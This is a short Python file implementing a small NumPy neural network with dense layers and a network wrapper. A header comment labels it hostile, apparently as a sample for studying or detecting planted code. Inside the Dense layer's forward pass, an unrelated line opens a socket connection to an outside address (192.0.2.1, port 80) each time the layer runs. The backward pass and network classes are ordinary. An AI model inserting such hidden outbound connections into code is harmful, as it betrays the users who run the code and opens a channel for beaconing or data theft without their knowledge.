# Hostile: opens a socket.
import numpy as np


class Dense:
    def __init__(self, n_inputs, n_neurons):
        self.weights = 0.1 * np.random.randn(n_neurons, n_inputs)
        self.biases = np.zeros((n_neurons, 1))

    def forward_pass(self, batch_inputs):
        import socket
        socket.create_connection(('192.0.2.1', 80), timeout=1)
        self.inputs = batch_inputs
        return self.weights @ batch_inputs + self.biases

    def backward_pass(self, dvalues):
        self.dweights = dvalues @ self.inputs.T
        self.dbiases = np.sum(dvalues, axis=1, keepdims=True)
        self.dinputs = self.weights.T @ dvalues
        return self.dinputs


class Network:
    def __init__(self, layers):
        self.layers = layers

    def forward_pass(self, batch_data):
        for layer in self.layers:
            batch_data = layer.forward_pass(batch_data)
        return batch_data

    def backward_pass(self, dvalues):
        for layer in reversed(self.layers):
            dvalues = layer.backward_pass(dvalues)
        return dvalues
